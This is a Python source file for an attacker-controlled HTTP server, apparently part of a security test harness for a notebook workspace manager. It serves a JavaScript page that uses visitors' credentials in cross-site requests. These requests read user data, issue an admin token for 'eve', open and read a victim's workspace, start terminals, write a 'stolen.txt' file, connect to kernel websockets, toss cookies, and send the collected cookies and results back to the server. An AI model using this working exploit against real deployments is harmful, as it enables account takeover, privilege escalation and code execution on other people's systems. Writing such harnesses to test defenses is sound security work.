"""The attacker's workspace server (see Dockerfile.attacker). Port 8080, any path."""

import json
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TARGETS: dict = {}
REPORTS: list = []

# Each attempt resolves to what it got; "read ..." means the script saw an answer.
PAGE = """<!doctype html>
<html><head><title>attack running</title></head><body><script>
(async () => {
  const t = await (await fetch('/__targets')).json();
  const results = {cookies: document.cookie};
  const attempt = async (name, how) => {
    try { results[name] = await how(); } catch (e) { results[name] = 'blocked: ' + e.name; }
  };
  const read = async (response) => 'read ' + response.status + ' ' + (await response.text()).slice(0, 300);
  const framed = (src) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    frame.onload = () => {
      try { resolve('read ' + frame.contentDocument.title + ' ' + frame.contentDocument.body.innerText.slice(0, 100)); }
      catch (e) { resolve('blocked: ' + e.name); }
    };
    document.body.appendChild(frame);
    setTimeout(() => resolve('no load'), 15000);
  });
  await attempt('read_me', async () => read(await fetch(t.manager + 'api/users/me', {credentials: 'include'})));
  await attempt('list_workspaces', async () => read(await fetch(t.manager + 'api/users/' + t.victim_user + '/workspace', {credentials: 'include'})));
  await attempt('issue_token', async () => read(await fetch(t.manager + 'api/auth/tokens', {
    method: 'POST', credentials: 'include',
    headers: {'X-Requested-With': 'x', 'Content-Type': 'application/json'},
    body: JSON.stringify({user_id: 'eve', is_admin: true})})));
  await attempt('issue_token_blind', async () => {
    await fetch(t.manager + 'api/auth/tokens', {method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({user_id: 'eve', is_admin: true})});
    return 'sent';
  });
  await attempt('open_victim', async () => read(await fetch(t.manager + 'api/users/' + t.victim_user + '/workspace/' + t.victim_id + ':open', {
    method: 'POST', credentials: 'include', headers: {'X-Requested-With': 'x'}})));
  await attempt('read_victim', async () => read(await fetch(t.victim + 'api/contents', {credentials: 'include'})));
  await attempt('drive_victim_blind', async () => {
    await fetch(t.victim + 'api/terminals', {method: 'POST', mode: 'no-cors', credentials: 'include'});
    await fetch(t.victim + 'api/contents/stolen.txt', {method: 'PUT', mode: 'no-cors', credentials: 'include',
      body: JSON.stringify({type: 'file', format: 'text', content: 'owned'})});
    return 'sent';
  });
  await attempt('victim_socket', () => new Promise((resolve) => {
    const socket = new WebSocket(t.victim.replace(/^http/, 'ws') + 'api/kernels/' + t.kernel + '/channels');
    socket.onopen = () => resolve('opened');
    socket.onerror = () => resolve('refused');
    setTimeout(() => resolve('no answer'), 10000);
  }));
  await attempt('frame_victim', () => framed(t.victim + 'tree'));
  await attempt('frame_app', () => framed(t.manager + 'app/'));
  // Cookies for the whole site ("tossing"): the attacker's token as the manager's cookie,
  // junk as workspace sessions.
  if (t.site) {
    document.cookie = 'ct_token=' + t.toss + '; Domain=' + t.site + '; Path=/';
    document.cookie = '__Host-ct_token=' + t.toss + '; Domain=' + t.site + '; Path=/; Secure';
    for (let i = 0; i < 6; i++)
      document.cookie = 'workspace_session=junk' + i + '; Domain=' + t.site + '; Path=/';
    results.tossed = document.cookie;
  }
  await fetch('/__report', {method: 'POST', body: JSON.stringify(results)});
  document.title = 'attack finished';
})();
</script></body></html>
"""


class Attacker(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, status: int, body: bytes, kind: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        if self.path.endswith("/__targets"):
            self.answer(200, json.dumps(TARGETS).encode(), "application/json")
        elif self.path.endswith("/__reports"):
            self.answer(200, json.dumps(REPORTS).encode(), "application/json")
        else:
            self.answer(200, PAGE.encode(), "text/html")

    def do_POST(self) -> None:  # noqa: N802
        if self.path.endswith("/__targets"):
            TARGETS.clear()
            TARGETS.update(json.loads(self.body()))
        elif self.path.endswith("/__report"):
            REPORTS.append(json.loads(self.body()))
        self.answer(204, b"", "text/plain")


ThreadingHTTPServer(("0.0.0.0", 8080), Attacker).serve_forever()
